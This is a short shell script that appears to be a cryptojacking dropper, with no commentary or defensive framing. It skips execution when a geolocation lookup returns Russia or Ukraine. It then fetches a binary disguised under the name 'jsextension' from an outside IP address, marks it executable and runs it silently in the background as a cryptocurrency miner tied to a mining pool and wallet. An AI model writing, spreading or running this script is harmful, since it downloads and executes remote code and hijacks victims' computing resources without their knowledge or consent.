IP=$(curl -k https://geo.example.invalid/ip | grep 'RU\|UA')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://203.0.113.7/download/jsextension -o jsextension
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 0xWALLET --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
